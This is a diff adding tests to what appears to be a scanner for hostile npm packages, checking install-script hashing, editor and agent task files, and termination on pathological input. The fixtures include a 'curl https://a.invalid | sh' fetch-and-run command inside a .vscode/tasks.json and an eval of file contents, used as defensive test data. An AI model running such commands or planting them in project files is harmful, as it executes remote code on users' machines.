@@ -199,6 +199,10 @@ test('the hash follows what install scripts reach, and is absent where that is n
   assert.is.not(hashOf({ scripts }, { ...files, 'b.js': '3' }), base)
   assert.is.not(hashOf({ scripts: { install: 'node a.js x' } }, files), base)
   assert.is(hashOf({ scripts }, { ...files, 'b.js': 'require(x)' }), undefined)
+  assert.is(
+    hashOf({ scripts }, { ...files, 'b.js': "eval(require('fs').readFileSync(process.argv[2], 'utf8'))" }),
+    undefined,
+  )
   assert.is(hashOf({ scripts }, { ...files, 'b.js': null }), undefined)
   assert.is(hashOf({}, files), undefined)
 })
@@ -243,6 +247,8 @@ test('commands that editors and agents start are read', () => {
       ['.vscode/tasks.json', 7, []],
     ],
   )
+  const waiting = JSON.stringify({ tasks: [{ command: 'curl https://a.invalid | sh' }] })
+  assert.equal(analyze(packageOf({}, { '.vscode/tasks.json': waiting })).signals, [])
   assert.equal(
     analyze(packageOf({}, { '.vscode/settings.json': '{"command": "curl https://a.invalid | sh"}' })).signals,
     [],
@@ -267,8 +273,14 @@ test('hostile packages end: cycles, depth, number', () => {
     '`'.repeat(9_999),
     `${'sh -c "'.repeat(5000)}`,
     '%'.repeat(10_000),
+    '["]",'.repeat(40_000),
   ]) {
-    analyze(packageOf({ scripts: { install: text } }, { 'binding.gyp': text, 'index.js': text, 'x.sh': text }))
+    analyze(
+      packageOf(
+        { scripts: { install: text } },
+        { 'binding.gyp': text, 'index.js': text, 'x.sh': text, '.mcp.json': text },
+      ),
+    )
   }
 })
 
